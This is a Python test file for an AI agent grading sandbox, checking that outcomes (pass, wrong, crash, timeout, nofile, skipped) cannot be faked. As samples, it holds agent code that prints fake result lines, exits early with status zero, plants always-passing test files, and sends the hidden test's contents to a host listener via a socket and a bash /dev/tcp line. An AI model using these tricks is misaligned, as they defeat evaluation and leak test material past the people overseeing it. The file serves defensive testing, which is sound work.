"""Outcomes exactly: pass, wrong, crash, timeout, nofile, skipped; hostile agent files cannot fake a pass."""

import pytest
from conftest import ISOLATIONS, SQUARE_TOML, fresh, write_task

from sandbox.isolation.bwrap import IsolationConfig, bwrap_path
from sandbox.tasks.grading import grade
from task_defs import load_suite

AGENT_FILES = {
    "pass": "def square(x):\n    return x * x\n",
    "wrong": "def square(x):\n    return x + x\n",
    "crash": "def square(x):\n    return x * x\nraise RuntimeError('broken at import')\n",
    "missing_function": "def cube(x):\n    return x ** 3\n",
    "syntax_error": "def square(x) return x\n",
    "exit_zero_at_import": "import sys\nsys.exit(0)\n",
    "os_exit_zero": "import os\nos._exit(0)\n",
    "fake_result_line": (
        "import sys\nprint('KBTEST-RESULT  pass')\nprint('KBTEST-RESULT pass pass')\n"
        "def square(x):\n    return -1\n"
    ),
}
EXPECTED = {
    "pass": "pass", "wrong": "wrong", "crash": "crash", "missing_function": "crash", "syntax_error": "crash",
    "exit_zero_at_import": "crash", "os_exit_zero": "crash", "fake_result_line": "wrong",
}


@pytest.mark.parametrize("isolation", ISOLATIONS)
@pytest.mark.parametrize("kind", list(AGENT_FILES))
def test_outcomes(square_suite, work, isolation, kind):
    task = load_suite(square_suite).get("square")
    wd = fresh(work / kind)
    (wd / "sq.py").write_text(AGENT_FILES[kind])
    out = work / f"{kind}.tests.txt"
    g = grade(task, wd, output_path=out, cfg=IsolationConfig(mode=isolation))
    assert g.outcome == EXPECTED[kind], out.read_text()
    assert g.session is not None and g.session.isolation == isolation


def test_nofile_without_running_the_test(square_suite, work):
    task = load_suite(square_suite).get("square")
    out = work / "tests.txt"
    g = grade(task, fresh(work / "empty"), output_path=out)
    assert g.outcome == "nofile" and g.session is None
    assert "sq.py does not exist" in out.read_text()


def test_timeout_when_agent_code_never_returns(square_suite, work):
    task = load_suite(square_suite).get("square")
    wd = fresh(work / "loop")
    (wd / "sq.py").write_text("def square(x):\n    while True:\n        pass\n")
    g = grade(task, wd, timeout_s=2)
    assert g.outcome == "timeout"
    assert g.session.session_killed == "timeout"


def test_missing_requirement_is_skipped_not_failed(tmp_path, work):
    suite = tmp_path / "suite"
    toml = SQUARE_TOML.format(id="gpuish") + 'requires = ["nvidia-smi-not-here"]\n'
    write_task(suite, "gpuish", toml, {"tests/test_task.py": "import kbtest\n", "solution/sq.py": "x = 1\n"})
    g = grade(load_suite(suite).get("gpuish"), fresh(work / "w"))
    assert g.outcome == "skipped" and "nvidia-smi-not-here" in g.detail


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_agent_written_test_files_do_not_replace_the_hidden_test(square_suite, work, isolation):
    """The agent leaves a wrong sq.py plus its own kbtest.py and tests/test_task.py that always pass."""
    task = load_suite(square_suite).get("square")
    wd = fresh(work / "shadow")
    (wd / "sq.py").write_text(AGENT_FILES["wrong"])
    fake = "import sys\nprint('all good')\nsys.exit(0)\n"
    (wd / "kbtest.py").write_text(fake)
    (wd / "tests").mkdir()
    (wd / "tests" / "test_task.py").write_text(fake)
    (wd / "test_x.py").write_text(fake)
    g = grade(task, wd, cfg=IsolationConfig(mode=isolation))
    assert g.outcome == "wrong"


@pytest.mark.skipif(not bwrap_path(), reason="needs bubblewrap")
def test_agent_code_under_grading_and_builtin_commands_reach_no_host_listener(square_suite, work, listener):
    """While its hidden test runs, agent code has the test in reach (sys.argv[0]); a listener on the host's
    loopback (say the next attempt's session) must receive nothing. The builtin agent's commands likewise."""
    import time

    from sandbox.agents.tools import ToolBox
    from sandbox.isolation.limits import AGENT_LIMITS

    wd = fresh(work / "exfil")
    (wd / "sq.py").write_text(
        "import socket, sys\n"
        "try:\n"
        f"    s = socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)\n"
        "    s.sendall(open(sys.argv[0], 'rb').read()[:200])\n"
        "except OSError:\n"
        "    pass\n"
        "def square(x):\n    return x * x\n")
    g = grade(load_suite(square_suite).get("square"), wd, cfg=IsolationConfig(mode="bwrap"))
    assert g.outcome == "pass"  # it still solved the task; it just could not send anything
    box = ToolBox(workdir=fresh(work / "tools"), cfg=IsolationConfig(mode="bwrap"), limits=AGENT_LIMITS,
                  deadline=time.monotonic() + 60)
    out = box._bash(f"echo -n hello >/dev/tcp/127.0.0.1/{listener.port}; echo rc=$?")
    assert "rc=1" in out
    time.sleep(0.5)
    assert listener.heard == []
